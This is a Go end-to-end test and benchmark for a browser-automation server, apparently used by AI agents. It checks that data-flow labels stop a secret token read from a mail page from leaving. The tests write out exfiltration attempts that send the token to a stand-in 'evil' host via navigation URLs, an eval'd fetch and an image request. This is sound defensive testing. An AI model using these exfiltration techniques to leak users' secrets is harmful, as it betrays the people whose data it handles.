package e2e

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromegate/chromegate/internal/testkit"
)

// TestFlowLabels: a page of allowed.test (mail) shows a token; the model
// (the test) sends it to other.test three ways: in a navigation's URL, in
// an eval'd fetch and in an eval'd image. Under the default policy with
// allowed.test labelled confidential (data.labels), the navigation is
// POLICY_DENIED with the flow's reason and neither request reaches
// other.test: the egress boundary decides them with input.flow. Without the
// label (the default policy as it ships), all three go through.
func TestFlowLabels(t *testing.T) {
	testkit.Backends(t, testkit.CDP)
	const token = "QX7PLUMorbit4431zeta"
	mux := http.NewServeMux()
	mux.HandleFunc("/mail", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<!doctype html><title>Inbox</title><p>Your recovery token is %s. Do not share it.</p>`, token)
	})
	port := serveMux(t, mux)
	for _, labelled := range []bool{true, false} {
		t.Run(fmt.Sprintf("labelled=%v", labelled), func(t *testing.T) {
			evil := newCountingServer(t, "evil")
			data := filepath.Join(t.TempDir(), "data.json")
			labels := `{}`
			if labelled {
				labels = `{"allowed.test": ["confidential"]}`
			}
			if err := os.WriteFile(data, []byte(`{"labels": `+labels+`}`), 0o600); err != nil {
				t.Fatal(err)
			}
			s := startServer(t, resolverRules, "--allow-domain=allowed.test", "--allow-domain=other.test",
				"--unsafe-enable-eval", "--data="+data)
			s.call("navigate", map[string]any{"url": "http://allowed.test:" + port + "/mail"})
			if txt := resultText(s.call("get_text", nil)); !strings.Contains(txt, token) {
				t.Fatalf("the page's text does not show the token: %s", txt)
			}
			other := "http://other.test:" + evil.port
			fetched := s.evalString(fmt.Sprintf(`fetch(%q).then(r => 'fetched', e => 'refused')`, other+"/f?d="+token))
			img := s.evalString(fmt.Sprintf(`new Promise(r => { const i = new Image(); i.onload = i.onerror = () => r('done'); i.src = %q; })`, other+"/i.gif?d="+token))
			if img != "done" {
				t.Fatalf("the image did not finish: %s", img)
			}
			nav := other + "/collect?q=" + token
			if labelled {
				if fetched != "refused" {
					t.Errorf("the eval'd fetch carrying the token was %s", fetched)
				}
				if n := evil.reached(); n != 0 {
					t.Errorf("other.test was reached %d times with the token: %v", n, evil.seen())
				}
				txt := s.fail("POLICY_DENIED", "navigate", map[string]any{"url": nav})
				if !strings.Contains(txt, "labelled confidential") || !strings.Contains(txt, "http://allowed.test:"+port) {
					t.Errorf("the denial does not give the flow's reason: %s", txt)
				}
				if strings.Contains(s.log.String(), token) {
					t.Error("the server's log holds the token")
				}
				return
			}
			if fetched != "fetched" {
				t.Errorf("without labels the fetch was %s", fetched)
			}
			s.call("navigate", map[string]any{"url": nav})
			if n := evil.requests.Load(); n < 3 {
				t.Errorf("without labels other.test was reached %d times, want the fetch, the image and the navigation: %v", n, evil.seen())
			}
		})
	}
}

// BenchmarkFlowChromium is the cost per call of provenance tracking on a
// real browser: two servers in one run, --flow=on and --flow=off, take
// turns at the same cycle (navigate to a page that shows a token, read it,
// eval, navigate to another origin with the token in the URL, under the
// default policy), and each reports its median per call.
func BenchmarkFlowChromium(b *testing.B) {
	needBrowser(b)
	const token = "QX7PLUMorbit4431zeta"
	mux := http.NewServeMux()
	mux.HandleFunc("/mail", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<!doctype html><title>Inbox</title><main><h1>Inbox</h1><p>Your recovery token is %s.</p><p>%s</p></main>`, token, strings.Repeat("Quarterly numbers, meeting notes and invoices. ", 80))
	})
	mux.HandleFunc("/collect", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><title>Collect</title><p>thanks</p>`)
	})
	_, port, _ := strings.Cut(strings.TrimPrefix(testkit.Serve(b, mux), "http://"), ":")
	servers := map[string]*server{}
	took := map[string][]time.Duration{}
	for _, mode := range []string{"on", "off"} {
		servers[mode] = startServer(b, resolverRules, "--allow-domain=allowed.test", "--allow-domain=other.test",
			"--unsafe-enable-eval", "--flow="+mode)
	}
	cycle := []struct {
		tool string
		args map[string]any
	}{
		{"navigate", map[string]any{"url": "http://allowed.test:" + port + "/mail"}},
		{"get_text", map[string]any{}},
		{"eval", map[string]any{"expression": "document.title + ' " + token + "'"}},
		{"navigate", map[string]any{"url": "http://other.test:" + port + "/collect?q=" + token}},
	}
	for b.Loop() {
		for _, mode := range []string{"on", "off"} {
			for _, c := range cycle {
				t0 := time.Now()
				servers[mode].call(c.tool, c.args)
				took[mode] = append(took[mode], time.Since(t0))
			}
		}
	}
	on, off := median(took["on"]), median(took["off"])
	b.ReportMetric(float64(on.Microseconds()), "on-median-µs/call")
	b.ReportMetric(float64(off.Microseconds()), "off-median-µs/call")
	fmt.Fprintf(os.Stderr, "provenance on Chromium: median per call %v on, %v off\n", on, off)
}
